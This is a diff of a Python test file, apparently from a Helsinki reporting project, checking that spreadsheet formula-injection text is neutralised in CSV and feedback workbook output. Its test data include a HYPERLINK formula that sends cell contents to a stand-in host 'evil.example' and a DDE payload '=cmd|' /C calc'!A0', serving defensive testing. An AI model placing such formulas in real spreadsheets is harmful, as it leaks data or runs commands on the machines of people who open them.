@@ -16,17 +16,40 @@ from hki_intl.workbook.feedback import write_feedback
 from tests.conftest import activity
 
 YEAR = 2025
-TEXTS = {"A2": '=HYPERLINK("http://evil.example/?"&A1,"klikkaa")', "E2": "+358 40 123 4567",
-         "G2": "@SUM(1+1)", "O2": "-2+3 tulosta", "A3": "'=jo lainausmerkillä", "O3": "- luettelomerkki"}
+TEXTS = {
+    "A2": '=HYPERLINK("http://evil.example/?"&A1,"klikkaa")',
+    "E2": "+358 40 123 4567",
+    "G2": "@SUM(1+1)",
+    "O2": "-2+3 tulosta",
+    "A3": "'=jo lainausmerkillä",
+    "O3": "- luettelomerkki",
+}
 KEYS = {"A": "title", "E": "partner_cities", "G": "partner_organisations", "O": "outcome"}
 
 
-@pytest.mark.parametrize("text, written", [
-    ("=1+1", "'=1+1"), ("+358 40 123", "'+358 40 123"), ("@SUM(A1)", "'@SUM(A1)"), ("-2+3", "'-2+3"),
-    ("\tx", "'\tx"), ("\rx", "'\rx"), ("- luettelo", "'- luettelo"), ("'=x", "''=x"), ("''@x", "'''@x"),
-    ("-5", "-5"), ("+5", "+5"), ("-1234,50", "-1234,50"), ("-0.5", "-0.5"),
-    ("'hello", "'hello"), ("a=b", "a=b"), ("Helsinki", "Helsinki"), ("", ""), ("'", "'"),
-])
+@pytest.mark.parametrize(
+    "text, written",
+    [
+        ("=1+1", "'=1+1"),
+        ("+358 40 123", "'+358 40 123"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("-2+3", "'-2+3"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("- luettelo", "'- luettelo"),
+        ("'=x", "''=x"),
+        ("''@x", "'''@x"),
+        ("-5", "-5"),
+        ("+5", "+5"),
+        ("-1234,50", "-1234,50"),
+        ("-0.5", "-0.5"),
+        ("'hello", "'hello"),
+        ("a=b", "a=b"),
+        ("Helsinki", "Helsinki"),
+        ("", ""),
+        ("'", "'"),
+    ],
+)
 def test_formula_text_gets_an_apostrophe_and_numbers_stay(text, written):
     assert neutralise(text) == written
     assert restore(written) == text
@@ -38,10 +61,14 @@ def _write_texts(wb):
     wb["Mittarit"]["C2"] = -5  # a number, which stays a number
 
 
-def test_the_csvs_neutralise_formulas_and_the_notebooks_read_what_was_typed(write_workbook, strategy, settings,
-                                                                          tmp_path):
-    write_workbook({"Toiminnot": [activity(), activity(title="toinen")],
-                    "Mittarit": [{"indicator": "overnight_stays", "value_year": 2025, "value": 1}]}, edit=_write_texts)
+def test_the_csvs_neutralise_formulas_and_the_notebooks_read_what_was_typed(write_workbook, strategy, settings, tmp_path):
+    write_workbook(
+        {
+            "Toiminnot": [activity(), activity(title="toinen")],
+            "Mittarit": [{"indicator": "overnight_stays", "value_year": 2025, "value": 1}],
+        },
+        edit=_write_texts,
+    )
     result = load_submissions(tmp_path / "inputs", [YEAR], strategy, settings)
     assert result.problems == []
     write_tables(consolidate(result), tmp_path / "data")
@@ -62,8 +89,11 @@ def test_the_csvs_neutralise_formulas_and_the_notebooks_read_what_was_typed(writ
 
 def test_feedback_workbooks_store_formula_text_as_text(write_workbook, strategy, settings, tmp_path):
     title = '=HYPERLINK("http://evil.example","klikkaa")'
-    write_workbook({"Toiminnot": [activity(focus_area="outside")]}, organisation="forum_virium",
-                   edit=lambda wb: set_text(wb["Toiminnot"]["A2"], title))  # a finding whose item is the title
+    write_workbook(
+        {"Toiminnot": [activity(focus_area="outside")]},
+        organisation="forum_virium",
+        edit=lambda wb: set_text(wb["Toiminnot"]["A2"], title),
+    )  # a finding whose item is the title
     write_workbook(edit=lambda wb: set_text(wb["Toiminnot"]["B2"], "=cmd|' /C calc'!A0"))  # a problem
     result = load_submissions(tmp_path / "inputs", [YEAR], strategy, settings)
     written = write_feedback(result, YEAR, tmp_path / "feedback", strategy)
